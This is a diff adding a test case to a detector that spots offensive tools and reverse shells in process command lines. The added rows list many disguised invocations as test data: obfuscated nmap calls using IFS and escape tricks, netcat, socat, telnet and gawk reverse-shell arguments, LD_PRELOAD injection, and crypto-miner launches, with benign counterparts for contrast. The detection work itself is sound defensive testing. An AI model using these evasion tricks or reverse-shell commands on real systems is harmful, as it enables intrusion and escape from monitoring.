@@ -303,6 +303,81 @@ t.test('tools are found behind their wrappers, and what led there is told', asyn
   t.equal(nested?.matchedOn, 'launcher>interpreter.script')
 })
 
+t.test('disguises beyond the recorded ones are seen through', async t => {
+  const rows: readonly (readonly [string, string, string])[] = [
+    // The options of a shell, as scripts and manifests really write them.
+    ['/bin/bash', '-eo pipefail -c "nmap x"', 'offensive-tool nmap shell.command medium'],
+    ['/bin/bash', '-Eeuo pipefail -c "nmap x"', 'offensive-tool nmap shell.command medium'],
+    ['/bin/bash', '-ceo pipefail "nmap x"', 'offensive-tool nmap shell.command medium'],
+    ['/bin/bash', '-C -c "nmap x"', 'offensive-tool nmap shell.command medium'],
+    ['/usr/bin/fish', '--command="nmap x"', 'offensive-tool nmap shell.command medium'],
+    ['/usr/bin/pwsh', '-NonInteractive -File /x/linpeas.ps1', 'offensive-tool linpeas interpreter.script high'],
+    // Blanks without blanks, letters without letters.
+    ['/bin/sh', '-c nmap@{IFS}-sS@{IFS%??}x'.replaceAll('@', '$'), 'offensive-tool nmap shell.command medium'],
+    ['/bin/sh', '-c "$IFS$9nmap$IFS$9x"', 'offensive-tool nmap shell.command medium'],
+    ['/bin/bash', '-c {nmap,-sS,x}', 'offensive-tool nmap shell.command medium'],
+    ['/bin/bash', '-c "$\'\\x6e\\155\\u0061p\' x"', 'offensive-tool nmap shell.command medium'],
+    ['/bin/sh', '-c ". /tmp/linpeas.sh"', 'offensive-tool linpeas shell>interpreter.script medium'],
+    // The command is behind options of the launcher, and its own options are not the launcher's.
+    ['/usr/bin/env', 'nmap -S 1.2.3.4 x', 'offensive-tool nmap launcher.command high'],
+    ['/usr/bin/env', '"-vS nmap -v" /x/run', 'offensive-tool nmap launcher.command medium'],
+    ['/usr/bin/env', '-Snmap', 'offensive-tool nmap launcher.command medium'],
+    ['/usr/bin/script', '-qc "nmap x" /dev/null', 'offensive-tool nmap launcher.command medium'],
+    ['/bin/su', '-lc "nmap x" root', 'offensive-tool nmap launcher.command medium'],
+    ['/usr/bin/flock', '-n /tmp/l -c "nmap x"', 'offensive-tool nmap launcher.command medium'],
+    ['/usr/sbin/runuser', '-u nobody -- nmap x', 'offensive-tool nmap launcher.command high'],
+    ['/usr/sbin/runuser', '- root -c "nmap x"', 'offensive-tool nmap launcher.command medium'],
+    ['/usr/bin/setsid', '-f nmap x', 'offensive-tool nmap launcher.command high'],
+    ['/usr/bin/setpriv', '--reuid 1000 --clear-groups nmap', 'offensive-tool nmap launcher.command high'],
+    ['/sbin/capsh', '--print -- -c "nmap x"', 'offensive-tool nmap launcher.command medium'],
+    ['/usr/bin/cpulimit', '-l 50 -- /tmp/xmrig', 'offensive-tool xmrig launcher.command high'],
+    ['/usr/bin/rlwrap', '-cAr nc -lvnp 4444 -e /bin/sh', 'offensive-tool netcat launcher.command high'],
+    ['/sbin/ip', 'netns exec blue nmap x', 'offensive-tool nmap launcher.command high'],
+    ['/sbin/start-stop-daemon', '-S -b -x /tmp/xmrig -- -o p', 'offensive-tool xmrig launcher.command high'],
+    ['/usr/bin/find', '. -exec true {} ; -exec nmap {} ;', 'offensive-tool nmap launcher.command high'],
+    ['/usr/bin/xargs', '-0 -P4 -I{} sh -c "nmap {}"', 'offensive-tool nmap launcher>shell.command medium'],
+    ['/usr/sbin/chroot', '--userspec=0:0 /host sh -c "nmap x"', 'offensive-tool nmap launcher>shell.command medium'],
+    ['/bin/busybox-x86_64', 'nc -e /bin/sh 1.2.3.4 9', 'offensive-tool netcat multicall.applet high'],
+    ['/usr/bin/python3', '/opt/sqlmap/__main__.py', 'offensive-tool sqlmap interpreter.script high'],
+    ['/usr/bin/python3.12 (deleted)', '/x/sqlmap.py', 'offensive-tool sqlmap interpreter.script high'],
+    ['/usr/bin/perl', '-I /x /x/nikto.pl', 'offensive-tool nikto interpreter.script high'],
+    ['/usr/bin/dotnet', '/x/SharpHound.dll', 'offensive-tool sharphound interpreter.script high'],
+    // Names.
+    ['/tmp/.xmrig', '', 'offensive-tool xmrig binary.basename high'],
+    ['/tmp/..nmap..', '', 'offensive-tool nmap binary.basename high'],
+    ['/tmp/nmap~', '', 'offensive-tool nmap binary.basename high'],
+    ['/tmp/NMAP.EXE', '', 'offensive-tool nmap binary.basename high'],
+    ['/tmp/nmap-7.94.bak', '', 'offensive-tool nmap binary.basename high'],
+    // Arguments, of a program that may have any name where it is not named here.
+    ['/usr/bin/gawk', '"BEGIN{s="/inet/tcp/0/1.2.3.4/9"}"', 'offensive-tool reverse-shell arg-tell medium'],
+    [
+      '/usr/bin/node',
+      '-e "require(\'child_process\');new net.Socket()"',
+      'offensive-tool reverse-shell arg-tell medium',
+    ],
+    ['/usr/bin/lua5.4', '-e "s=require(\'socket\');os.execute()"', 'offensive-tool reverse-shell arg-tell medium'],
+    ['/bin/zsh', '-c "zmodload zsh/net/tcp"', 'offensive-tool reverse-shell arg-tell medium'],
+    ['/bin/sh', '-c "telnet h 9 | /bin/sh | telnet h 8"', 'offensive-tool reverse-shell arg-tell medium'],
+    ['/tmp/x', 'EXEC:/bin/sh TCP:1.2.3.4:9', 'offensive-tool socat arg-tell medium'],
+    ['/tmp/x', '-e /bin/sh 1.2.3.4 4444', 'offensive-tool netcat arg-tell medium'],
+    ['/tmp/x', '-lvp 4444 -e /bin/bash', 'offensive-tool netcat arg-tell medium'],
+    ['/tmp/x', '--sh-exec id 1.2.3.4', 'offensive-tool netcat arg-tell medium'],
+    ['/usr/bin/env', 'LD_PRELOAD=/tmp/x.so /bin/id', 'offensive-tool library-preload arg-tell medium'],
+    ['/lib64/ld-linux-x86-64.so.2', '--preload /tmp/x /bin/id', 'offensive-tool library-preload arg-tell medium'],
+    ['/proc/1/root/dev/shm/x', '', 'fileless-exec undefined path medium'],
+    // And their innocent neighbours.
+    ['/bin/bash', '-s nmap', ''],
+    ['/bin/busybox', '--list', ''],
+    ['/usr/bin/xterm', '-e /bin/bash', ''],
+    ['/usr/bin/env', 'LD_PRELOAD=/usr/lib/libjemalloc.so /app', ''],
+    ['/bin/sh', '-c "LD_PRELOAD=/usr/lib/libjemalloc.so exec /app"', ''],
+    ['/bin/sh', '-c "IFS=, read -r a b; echo $IFS"', ''],
+    ['/usr/bin/awk', '"{print $1}"', ''],
+    ['/usr/bin/start-stop-daemon', '--start --exec /usr/sbin/sshd -- -D', ''],
+  ]
+  for (const [binary, args, expected] of rows) t.equal(summary(inspect(binary, args)), expected, `${binary} ${args}`)
+})
+
 t.test('innocent programs are left alone', async t => {
   const rows: readonly (readonly [string, string, string?])[] = [
     ['/usr/bin/hydra', 'serve all --dev'],
